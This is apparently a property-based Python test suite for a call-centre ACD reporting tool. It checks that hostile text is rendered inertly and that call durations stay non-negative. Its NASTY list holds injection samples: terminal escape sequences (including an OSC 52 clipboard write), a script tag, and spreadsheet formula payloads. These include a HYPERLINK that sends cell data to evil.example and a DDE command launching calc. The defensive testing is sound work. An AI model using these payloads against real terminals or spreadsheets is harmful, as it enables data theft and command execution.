"""Property-based (issue 16): what the ACD sends is shown as data everywhere, and a call's
events in any order never make a negative duration or a service level the call did not meet.

* Any text in a free-text field (a pause reason, a hotline's name, a classification), rendered
  by the tables, CSV, JSON, the HTML day report and the wallboard's board: no crash, no markup
  or escape sequence interpreted, and what is shown is the JSON value (tables: with unprintable
  characters as their escapes; CSV: with a spreadsheet's formula neutralised).
* Any order and times of a call's events, local times across the autumn DST change (flagged
  ``dst_ambiguous``) or UTC: every duration is unknown or >= 0, and a call counts within the
  service level only if it was answered, after it started, within the service level.

``FUZZ_DEPTH=deep`` (``make fuzz-deep``) runs 10,000 examples per property.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import markupsafe
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from acd_cli import html_report, labels, output, report_context, report_figures, report_listings
from acd_hub import kpis
from acd_hub.agent_stats import StateInterval
from acd_hub.call_stats import call_summary, contribution
from acd_hub.events import StoredEvent
from acd_hub.reports.agent_day import AgentDayReport
from acd_hub.reports.board import BoardEntry
from acd_hub.reports.freshness import Freshness
from tests.kpi_oracle import kpis as oracle_kpis
from tests.support import EmptyReports, stored_call_events
from tests.unit.test_fuzz_handler import FUZZ

ZONE = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
SINCE_MS = int(datetime(2026, 11, 20, 9, 0, tzinfo=UTC).timestamp() * 1000)

# What a hostile review tried, and whatever else hypothesis thinks of.
NASTY = [
    "[/]",
    "[link=http://evil.example]click[/link]",
    "[black on black]hidden[/]",
    "\x1b]0;PWNED\x1b\\\x1b[8mhidden\x1b[0m",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred",
    "\u202eevil\u202c",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "line\nbreak",
    "<script>alert(1)</script>",
    "&amp;",
    "\\x1b",
]
TEXT = st.one_of(st.sampled_from(NASTY), st.text(min_size=1, max_size=40))


def rendered(renderable: Any) -> str:
    """What the operator's terminal gets (a pipe: no colour, no wrapping)."""
    buffer = io.StringIO()
    Console(file=buffer, width=10_000, highlight=False, color_system=None, soft_wrap=True).print(renderable)
    return buffer.getvalue()


def assert_inert(text: str) -> None:
    """Nothing a terminal acts on: no ESC, no C1 code, no CR, no bidi override."""
    assert all(c.isprintable() or c == "\n" for c in text), repr(text)


def board_entry(text: str) -> dict[str, Any]:
    return BoardEntry(
        agent="100001",
        state="paused",
        since="2026-11-20T09:00:00.000Z",
        since_ms=SINCE_MS,
        event_key="h-1",
        hotline=501,
        hotline_name=text,
        pause_reason=text,
    ).as_dict()


def timeline_entry(text: str) -> dict[str, Any]:
    interval = StateInterval("paused", SINCE_MS, SINCE_MS + 60_000, pause_reason=text, hotline=501)
    return interval.as_dict()


class _Reports(EmptyReports):
    """The reports' read side, holding one agent paused for ``text``."""

    def __init__(self, text: str) -> None:
        self.text = text

    def board(self) -> list[BoardEntry]:
        return [BoardEntry(**board_entry(self.text))]


@pytest.fixture(autouse=True)
def _no_charts(monkeypatch: pytest.MonkeyPatch) -> None:
    # The charts cost ~0.1 s an example (altair); their text goes through vl-convert's own SVG
    # escaping (test_hostile_output covers a few). Every other part of the page renders here.
    monkeypatch.setattr(html_report, "timeline_chart", lambda *_, **__: "<svg></svg>")


def day_report(pause_reason: str) -> str:
    day = AgentDayReport(
        "100001", "2026-11-20", {"paused": 60}, {pause_reason: 60}, 0, None, None, timeline=[]
    )
    freshness = Freshness(None, None, None, False, [])
    return html_report.render(html_report.DayReport("2026-11-20", ZONE, {}, {"100001": day}, freshness, NOW))


@FUZZ
@given(TEXT)
def test_any_text_is_shown_as_data_in_every_view(text: str) -> None:
    shown = output.printable(text)
    board, timeline = board_entry(text), timeline_entry(text)

    # tables: the board, a timeline, one report as name/value lines
    for item, columns in (
        (board, report_listings.board_columns(ZONE, NOW)),
        (timeline, report_figures.timeline_columns(ZONE)),
    ):
        table = rendered(output.to_table([item], columns, title=f"Timeline of agent {text}"))
        assert shown in table
        assert_inert(table)
    summary = rendered(output.key_value_table([("classification", text)], title=text))
    assert shown in summary
    assert_inert(summary)
    if text.isprintable():
        assert text in table  # nothing to escape: shown exactly as sent

    # JSON: exactly the value, and still nothing for a terminal to act on
    document = output.to_json([board])
    assert json.loads(document) == [board]
    assert_inert(document)

    # CSV: the value, a formula neutralised, line breaks and tabs kept (quoted)
    for item in (board, timeline):
        (header, row) = list(csv.reader(io.StringIO(output.to_csv([item]), newline="")))
        cell = dict(zip(header, row, strict=True))["pause_reason"]
        assert cell == output.spreadsheet_safe(text)
        assert not cell.startswith(output.FORMULA_STARTS) or output.spreadsheet_safe(cell) == cell
        if not text.startswith(output.FORMULA_STARTS) and all(c.isprintable() or c in "\r\n\t" for c in text):
            assert cell == text

    # HTML day report: escaped once, as jinja escapes, wherever the pause reason appears
    page = day_report(text)
    assert str(markupsafe.escape(text)) in page
    assert page.count("<") == day_report("x").count("<")  # no tag of its own

    # the wallboard's board: the JSON its page draws from (as text, never as HTML)
    report = report_context.ReportContext(endpoint_url="http://127.0.0.1:1")
    report.__dict__["reports"] = _Reports(text)
    from acd_cli.wallboard import Wallboard  # noqa: PLC0415

    (agent,) = json.loads(json.dumps(Wallboard(report, hotlines=["501"]).snapshot()))["agents"]
    assert (agent["pause_reason"], agent["hotline"], agent["label"]) == (text, text, f"paused: {text}")


# --- a call's events in any order ------------------------------------------------------------

SL_SECONDS = 20
RECEIVED = datetime(2026, 10, 25, 12, 0, tzinfo=UTC)
# Local wall-clock times around the autumn change: 02:00-02:59 happens twice (dst_ambiguous).
LOCAL_TIME = st.builds(
    lambda h, m, s: f"2026-10-25 {h:02d}:{m:02d}:{s:02d}",
    st.integers(1, 3),
    st.integers(0, 59),
    st.integers(0, 59),
)
# Or ms since the epoch (UTC, no flags) around the same hours.
MILLIS = st.integers(
    int(datetime(2026, 10, 24, 23, 0, tzinfo=UTC).timestamp() * 1000),
    int(datetime(2026, 10, 25, 3, 0, tzinfo=UTC).timestamp() * 1000),
).map(str)
TYPES = ["CallStart", "Connected", "Holdstart", "Holdstop", "CallEnd", "WaitingQueue"]


@st.composite
def call_events(draw: st.DrawFn) -> list[StoredEvent]:
    """A call's events: some of the types above, each at any time (in any order)."""
    times = draw(st.sampled_from([LOCAL_TIME, MILLIS]))
    kinds = draw(st.lists(st.sampled_from(TYPES), min_size=1, max_size=7))
    return stored_call_events([(kind, draw(times)) for kind in kinds], RECEIVED)


def _ms(iso: str | None) -> int | None:
    return None if iso is None else int(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * 1000)


@FUZZ
@given(call_events())
def test_any_order_of_a_calls_events_gives_no_negative_duration(events: list[StoredEvent]) -> None:
    summary = call_summary("c0ffee", events, [], ZONE)
    for name in ("wait_s", "talk_s", "hold_s", "acw_s"):
        value = getattr(summary, name)
        assert value is None or value >= 0, (name, summary)

    started, answered = _ms(summary.started), _ms(summary.answered)
    truly_within = (
        summary.outcome == "answered"
        and started is not None
        and answered is not None
        and 0 <= answered - started <= SL_SECONDS * 1000
    )
    if started is not None and answered is not None and answered < started:
        assert "answered_before_start" in summary.problems

    figures = oracle_kpis([summary.as_dict()], SL_SECONDS)
    assert figures["answered_within_sl"] == int(truly_within and figures["offered"] == 1)
    for name in ("asa_s", "max_wait_s", "aht_s", "avg_talk_s", "avg_hold_s"):
        assert figures[name] is None or figures[name] >= 0, (name, figures)

    # the live path's counters give the same figures as the oracle
    share = contribution(summary, SL_SECONDS)
    if share is not None:
        assert kpis.figures(share.counters, share.wait_ms) == figures
        assert share.counters.get("answered_within_sl", 0) == int(truly_within)
    assert labels.CALL_PROBLEMS.keys() >= set(summary.problems)
